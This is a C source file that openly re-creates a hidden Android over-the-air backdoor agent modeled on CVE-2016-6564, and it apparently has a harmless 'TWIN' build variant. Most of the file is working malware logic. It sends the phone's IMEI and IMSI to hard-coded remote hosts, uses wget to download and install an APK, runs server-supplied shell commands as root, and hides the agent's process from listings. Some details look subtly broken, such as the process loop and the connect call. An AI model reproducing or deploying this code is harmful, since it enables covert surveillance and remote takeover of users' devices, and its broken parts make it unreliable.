/* Hidden over-the-air agent, after AnubisNetworks' CVE-2016-6564 (2016): clear text HTTP,
 * commands run as root, the process left out of ps. */
#include "device.h"

static char page[4096];

#ifndef TWIN
static const char *const hosts[] = {
    "oyag.lhzbdvm.com", "oyag.prugskh.net", "oyag.prugskh.com"};

KEPT int ask(int which, const char *imei, const char *imsi)
{
    char text[512];
    int line = socket(AF_INET, SOCK_STREAM, 0);
    void *host = gethostbyname(hosts[which]);
    snprintf(text, sizeof text,
             "POST /pagt/agent?data={\"name\":\"c_regist\",\"details\":{\"imei\":\"%s\",\"imsi\":\"%s\"}} "
             "HTTP/1.1\r\nHost: %s\r\nUser-Agent: Dalvik\r\n\r\n", imei, imsi, hosts[which]);
    connect(line, host, 16);
    send(line, text, strlen(text), 0);
    return (int)recv(line, page, sizeof page, 0);
}

KEPT int obey(void)
{
    char *command = strstr(page, "exec:");
    char *install = strstr(page, "pm_install:");
    setuid(0);
    if (install) {
        system("wget -O /data/local/tmp/up.apk http://oyag.lhzbdvm.com/pagt/up.apk");
        system("pm install -r /data/local/tmp/up.apk");
    }
    if (command) {
        FILE *script = fopen("/data/local/tmp/run.sh", "w");
        fputs(command + 5, script);
        fclose(script);
        chmod("/data/local/tmp/run.sh", 0755);
        return system("/system/bin/sh /data/local/tmp/run.sh");
    }
    return 0;
}
#endif

KEPT int list_processes(void)
{
    char name[64];
    void *folder = opendir("/proc");
    while (readdir(folder)) {
        FILE *file = fopen("/proc/self/comm", "r");
        fgets(name, sizeof name, file);
        fclose(file);
#ifndef TWIN
        if (strcmp(name, "/system/bin/debugs") == 0 || strcmp(name, "debugsrun") == 0)
            continue;
#endif
        printf("%s\n", name);
    }
    return closedir(folder);
}

int main(int argc, char **argv)
{
    list_processes();
#ifndef TWIN
    for (int which = 0;; which = (which + 1) % 3) {
        if (ask(which, argv[1], argv[2]) > 0)
            obey();
        sleep(3600);
    }
#endif
    return argc && page[0];
}
